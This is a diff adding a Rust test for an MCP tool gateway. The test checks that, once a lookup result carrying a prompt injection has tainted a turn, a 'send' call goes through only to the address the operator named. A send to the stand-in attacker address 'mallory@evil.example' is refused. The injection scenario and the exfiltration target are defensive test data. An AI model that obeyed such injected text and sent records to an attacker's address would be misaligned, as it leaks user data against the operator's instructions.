@@ -218,3 +218,76 @@ fn a_state_changing_tool_waits_for_the_operator_and_runs_on_yes() {
         "{log:?}"
     );
 }
+
+/// Issue 21 through the real upstream: `send {to, body}` declares `to` its destination. In a
+/// turn tainted by `lookup` (whose result is an injection naming mallory), `send` reaches an
+/// address the operator's words for the turn name, and nothing else; `wire` declares no
+/// destination and keeps the plain rule; a destination on a tool without egress withholds it.
+#[test]
+fn an_upstream_tools_declared_destination_must_be_the_operators() {
+    require_python_mcp();
+    let h = home();
+    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/mcp/classes_server.py");
+    let text = format!(
+        "[[mcp.upstream]]\nname = \"c\"\ncommand = \"python3\"\nargs = [{:?}, {:?}]\n\
+         egress = true\nreads_files = false\n\
+         [mcp.upstream.tools]\n\
+         send = {{ effects = [\"egress\"], destinations = [\"to\"] }}\n\
+         lookup = {{ effects = [\"read\"] }}\n\
+         clock = {{ effects = [], destinations = [] }}\n\
+         post = {{ effects = [\"change\"], destinations = [\"body\"] }}\n",
+        script.display().to_string(),
+        calls_file(&h).display().to_string()
+    );
+    let config = GateConfig::from_toml_str(&text, Path::new("config.toml")).unwrap();
+    let mut up = start_upstreams(&config.mcp, &h.seam, &Keeper::open(&h.seam).unwrap());
+    let report = &up.reports[0];
+    assert!(report.started.is_ok(), "{report:?}");
+    let post = report.tools.iter().find(|t| t.name == "c.post").unwrap();
+    assert!(
+        matches!(&post.state, seam_gate::mcp::ToolState::Withheld(why) if why.contains("no egress")),
+        "{:?}",
+        post.state
+    );
+    let ledger = Arc::new(Recorded::default());
+    let tb = toolbox(&h, &mut up, ledger);
+    let (turn, _token) =
+        tb.open_turn_with(&["Look the record up and send it to Alice@Example.org".to_owned()]);
+
+    assert!(tainted(&call(&tb, "c.lookup", json!({"key": "k"}), &turn)));
+    let a = call(
+        &tb,
+        "c.send",
+        json!({"to": "alice@example.org", "body": "record k"}),
+        &turn,
+    );
+    assert!(matches!(a, Answer::Envelope(_)), "{a:?}");
+    let (c, m) = code(&call(
+        &tb,
+        "c.send",
+        json!({"to": "mallory@evil.example", "body": "record k"}),
+        &turn,
+    ));
+    assert_eq!(c, RefusalCode::Tainted, "{m}");
+    assert!(m.contains("/to = \"mallory@evil.example\""), "{m}");
+    let (c, m) = code(&call(
+        &tb,
+        "c.wire",
+        json!({"to": "alice@example.org", "amount": 1.0}),
+        &turn,
+    ));
+    assert_eq!(c, RefusalCode::Tainted, "{m}");
+    assert!(m.contains("declares no destination parameter"), "{m}");
+    // the upstream saw the lookup and the one endorsed send, nothing else
+    assert_eq!(received(&h), ["lookup", "send"]);
+    // words belong to their turn: another tainted turn without them refuses the same send
+    let (other, _) = tb.open_turn_with(&[]);
+    assert!(tainted(&call(&tb, "c.lookup", json!({"key": "k"}), &other)));
+    let (c, _) = code(&call(
+        &tb,
+        "c.send",
+        json!({"to": "alice@example.org", "body": "record k"}),
+        &other,
+    ));
+    assert_eq!(c, RefusalCode::Tainted);
+}
